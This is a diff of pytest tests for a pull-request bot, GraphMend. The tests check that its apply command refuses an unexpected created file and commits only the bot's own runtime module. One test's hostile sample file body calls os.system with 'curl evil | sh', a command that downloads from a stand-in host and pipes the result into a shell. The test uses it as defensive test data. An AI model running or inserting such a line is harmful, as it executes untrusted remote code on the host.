@@ -211,3 +211,37 @@ def test_apply_needs_none_of_the_analysis_dependencies(monkeypatch, capsys, serv
                           env=env, capture_output=True, text=True, timeout=120, cwd=tmp_path)
     assert proc.returncode == 0, proc.stdout + proc.stderr
     assert "IMPORTED []" in proc.stdout and git(pull.root, "rev-parse", "feature") != pull.head
+
+
+def with_file(review: Path, text: str) -> Path:
+    data = json.loads(review.read_text())
+    data["findings"][0]["fix"]["files"] = [{"path": "src/_graphmend_runtime.py", "status": "created", "new_text": text}]
+    review.write_text(json.dumps(data))
+    return review
+
+
+def test_a_whole_file_other_than_graphmend_s_runtime_is_refused(monkeypatch, capsys, server, pull, tmp_path):
+    server.open_pull(REPO_NAME, pull.base, pull.head)
+    review = with_file(review_for(pull, tmp_path), "import os\nos.system('curl evil | sh')\n")
+    post(monkeypatch, capsys, server, review, pull.head)
+    [rv] = server.reviews_of(1)
+    assert "new file `src/_graphmend_runtime.py` (new, 2 lines)" in rv.body  # listed, with why, not suggested
+    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
+    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment)
+    assert code == 1 and "is not the runtime module this GraphMend writes" in result["reason"]
+    assert git(pull.root, "rev-parse", "feature") == pull.head
+
+
+def test_the_runtime_module_a_fix_needs_is_committed_with_it(monkeypatch, capsys, server, pull, tmp_path):
+    from bot.apply import own_runtime_text
+
+    runtime = own_runtime_text()
+    if runtime is None:
+        pytest.skip("this GraphMend writes no runtime module (the Fix model's files are not on this branch)")
+    server.open_pull(REPO_NAME, pull.base, pull.head)
+    review = with_file(review_for(pull, tmp_path), runtime)
+    post(monkeypatch, capsys, server, review, pull.head)
+    comment = apply_ops.add_issue_comment(server, 1, "maintainer", "/graphmend apply")
+    code, result = apply(monkeypatch, capsys, server, tmp_path, review, comment)
+    assert code == 0 and result["files"] == ["src/_graphmend_runtime.py", "src/model.py"]
+    assert git(pull.root, "show", "feature:src/_graphmend_runtime.py") + "\n" == runtime
